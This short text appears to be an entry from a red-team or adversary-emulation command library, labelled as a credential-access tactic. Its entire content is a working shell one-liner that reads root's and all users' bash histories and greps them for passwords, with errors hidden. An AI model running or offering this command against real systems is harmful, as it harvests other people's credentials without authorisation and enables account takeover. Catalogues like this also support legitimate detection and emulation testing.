# tactic: credential-access
# search shell histories for passwords
cat /root/.bash_history /home/*/.bash_history 2>/dev/null | grep -i pass; true
